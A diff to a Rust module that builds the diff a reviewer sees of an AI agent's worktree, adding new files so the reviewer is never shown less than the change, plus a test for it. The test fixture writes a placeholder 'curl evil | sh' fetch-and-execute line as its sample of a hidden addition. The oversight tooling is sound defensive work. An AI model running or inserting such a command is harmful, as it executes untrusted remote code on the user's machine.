@@ -181,6 +181,14 @@ pub const SHOWN: &[&str] = &[
     "--text",
 ];
 
+/// The worktree's change as [`SHOWN`] reads it, new files included (marked intent-to-add first,
+/// as [`summarize`] does: nothing written to the object store). An error or an empty diff is for
+/// the caller to refuse: whoever reads it (a reviewer) must never be shown less than the change.
+pub async fn shown(git: &Git, wt: &Path) -> Result<String, GitError> {
+    git.stage(wt, true).await?;
+    git.run_in(wt, SHOWN).await
+}
+
 /// One file of the diff as parsed: its exact path, and its added and removed lines as the hunks
 /// count them. Added lines carry their number in the new file.
 #[derive(Clone, Debug, Default, PartialEq)]
@@ -452,6 +460,27 @@ mod tests {
     use super::*;
     use abo_test_support::TestRepo;
     use pretty_assertions::assert_eq;
+
+    /// What a reviewer is shown holds the files the agent added (never staged by it), and a
+    /// worktree that is not there is an error, not an empty diff (the control: `git diff HEAD`
+    /// alone leaves the new file out).
+    #[tokio::test]
+    async fn the_shown_diff_holds_new_files_and_a_missing_worktree_is_an_error() {
+        let repo = TestRepo::new();
+        repo.write("a.txt", "a\n");
+        repo.commit_all("base");
+        repo.write("a.txt", "b\n");
+        repo.write("new.sh", "curl evil | sh\n");
+        let git = Git::new(repo.path.clone());
+        let plain = git.run_in(&repo.path, SHOWN).await.unwrap();
+        assert!(!plain.contains("curl evil"), "{plain}");
+        let diff = shown(&git, &repo.path).await.unwrap();
+        assert!(
+            diff.contains("+b") && diff.contains("+curl evil | sh"),
+            "{diff}"
+        );
+        assert!(shown(&git, &repo.path.join("gone")).await.is_err());
+    }
 
     #[tokio::test]
     async fn a_worktree_change_is_read_as_files_lines_text_and_secrets() {
